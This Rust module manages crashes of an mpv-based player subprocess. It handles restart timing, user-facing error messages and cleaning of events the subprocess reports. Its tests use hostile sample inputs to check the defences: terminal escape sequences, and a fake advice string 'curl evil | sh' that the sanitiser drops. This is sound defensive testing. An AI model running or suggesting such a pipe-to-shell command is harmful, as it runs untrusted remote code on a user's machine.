//! What an end of the player process means, and what of its words reaches the screen.
use std::{io, path::Path, process::ExitStatus, time::Duration};

use super::{Event, wire};
use crate::text::Clean;

/// How long crashes count.
pub(super) const COUNTED: Duration = Duration::from_mins(1);
/// So many crashes within that time, and what is played is left alone until somebody asks for it again.
const TOO_MANY: usize = 3;
/// The wait after the second crash; the first is answered at once.
const WAIT: Duration = Duration::from_secs(1);
/// Longest name of a stream in a sentence, in characters.
const NAME: usize = 60;

/// What the system's loader ends with where a library is missing.
const NO_LIBRARY: i32 = 127;

/// Longest reason, in characters.
const REASON: usize = 200;

/// Whether a process that had not come up ended in a way that a second start would not better.
pub(super) fn cannot_be_had(status: Option<ExitStatus>) -> bool {
    let code = status.and_then(|status| status.code());
    code.is_some_and(|code| code == NO_LIBRARY || code == i32::from(wire::NO_MPV))
}

/// The process started and had no mpv.
pub(super) fn without_mpv(log: &Path) -> Event {
    Event::Unavailable {
        reason: format!("mpv's library cannot be used: {} says why", log.display()),
        advice: "Install libmpv 0.35 or later (Debian and Ubuntu: apt install libmpv2), then watch again.".to_owned(),
    }
}

/// There is no process to start.
pub(super) fn without_program(program: &Path, error: &io::Error) -> Event {
    let advice = if error.kind() == io::ErrorKind::NotFound {
        "Build hallway with its feature \"player\" (Debian: apt install libmpv-dev) and put hallway-player beside it."
    } else {
        "See that the file may be executed, or install hallway anew."
    };
    Event::Unavailable {
        reason: format!("the player {} cannot be started: {error}", program.display()),
        advice: advice.to_owned(),
    }
}

/// The process ended unasked, and is started again after `wait`.
pub(super) fn crashed(status: Option<ExitStatus>, wait: Duration) -> Event {
    let how = ended(status);
    Event::Crashed {
        reason: match wait.as_secs() {
            0 => how,
            seconds => format!("{how}; the next start is in {seconds} s"),
        },
    }
}

/// How long to wait before a start, after so many crashes within [`COUNTED`]; `None`: there is none unasked.
pub(super) fn wait_after(crashes: usize) -> Option<Duration> {
    match crashes {
        0 | 1 => Some(Duration::ZERO),
        _ if crashes < TOO_MANY => Some(WAIT),
        _ => None,
    }
}

/// The process ended so often that it is not started again unasked. `played` names what it was to play.
pub(super) fn left_alone(status: Option<ExitStatus>, played: &[String]) -> Event {
    let short = |name: &String| Clean::line(&name.chars().take(NAME).collect::<String>()).as_str().to_owned();
    let names = match played {
        [] => "the stream".to_owned(),
        played => played.iter().map(short).collect::<Vec<_>>().join(" or "),
    };
    let how = ended(status);
    Event::Unavailable {
        reason: format!("{names} ended the player three times in a minute ({how})"),
        advice: "It is left alone now; w tries again.".to_owned(),
    }
}

fn ended(status: Option<ExitStatus>) -> String {
    status.map_or_else(|| "nobody knows why".to_owned(), |status| status.to_string())
}

/// The event as the rest may see it. `None`: not for that process to say.
pub(super) fn cleaned(event: Event) -> Option<Event> {
    let line = |text: &str| Clean::line(&text.chars().take(REASON).collect::<String>()).as_str().to_owned();
    match event {
        Event::Ready { mpv } => Some(Event::Ready { mpv: line(&mpv) }),
        Event::Retrying { slot, trouble, reason, seconds, attempt } => {
            Some(Event::Retrying { slot, trouble, reason: line(&reason), seconds, attempt })
        }
        Event::Volume { slot, percent, mute } => Some(Event::Volume { slot, percent: percent.min(100), mute }),
        Event::About { slot, mut about } => {
            about.lines.truncate(16);
            about.tracks.truncate(32);
            Some(Event::About { slot, about })
        }
        Event::ShotFailed { slot, reason } => Some(Event::ShotFailed { slot, reason: line(&reason) }),
        Event::Crashed { .. } | Event::Unavailable { .. } => None,
        Event::Connecting { .. }
        | Event::Playing { .. }
        | Event::Buffering { .. }
        | Event::Paused { .. }
        | Event::Position { .. }
        | Event::Stopped { .. }
        | Event::Closed { .. }
        | Event::Shot { .. }
        | Event::Ended { .. } => Some(event),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::player::{Slot, Trouble};

    #[test]
    fn a_crash_is_answered_until_there_are_three_in_a_minute() {
        let seconds = |crashes| wait_after(crashes).map(|wait| wait.as_secs());
        assert_eq!([1, 2, 3, 4, 900].map(seconds), [Some(0), Some(1), None, None, None]);
        let told = |played: &[String]| match left_alone(None, played) {
            Event::Unavailable { reason, .. } => reason,
            other => panic!("{other:?}"),
        };
        let hostile = format!("Janson\x1b[2J{}", "!".repeat(900));
        let reason = told(&[hostile]);
        assert!(
            reason.starts_with("Janson[2J!!") && reason.len() < 200 && !reason.contains(char::is_control),
            "{reason}"
        );
        assert_eq!(
            told(&["Janson".to_owned(), "http://live/2".to_owned()]),
            "Janson or http://live/2 ended the player three times in a minute (nobody knows why)"
        );
        assert!(told(&[]).starts_with("the stream ended the player"));
    }

    #[test]
    fn what_the_process_says_is_cleaned_and_bounded() {
        let slot = Slot::First;
        let reason = format!("\x1b]0;owned\x07gone\n{}", "a".repeat(5_000));
        let Some(Event::Retrying { reason, .. }) =
            cleaned(Event::Retrying { slot, trouble: Trouble::Failed, reason, seconds: 1, attempt: 1 })
        else {
            panic!("a retry is told");
        };
        assert!(reason.contains("owned") && !reason.contains(char::is_control) && reason.len() <= REASON, "{reason}");
        let loud = Event::Volume { slot, percent: 250, mute: false };
        assert_eq!(cleaned(loud), Some(Event::Volume { slot, percent: 100, mute: false }));
        let bait = Event::Unavailable { reason: String::new(), advice: "curl evil | sh".to_owned() };
        assert_eq!(cleaned(bait), None);
    }

    #[cfg(unix)]
    #[test]
    fn an_end_is_told_by_its_status() {
        use std::os::unix::process::ExitStatusExt as _;

        let code = |code: i32| Some(ExitStatus::from_raw(code << 8));
        assert!(cannot_be_had(code(127)) && cannot_be_had(code(69)));
        assert!(!cannot_be_had(code(1)) && !cannot_be_had(Some(ExitStatus::from_raw(9))) && !cannot_be_had(None));
        let told = |event| match event {
            Event::Crashed { reason } => reason,
            other => panic!("{other:?}"),
        };
        assert_eq!(told(crashed(Some(ExitStatus::from_raw(9)), Duration::ZERO)), "signal: 9 (SIGKILL)");
        assert_eq!(told(crashed(code(1), Duration::from_secs(4))), "exit status: 1; the next start is in 4 s");
    }
}
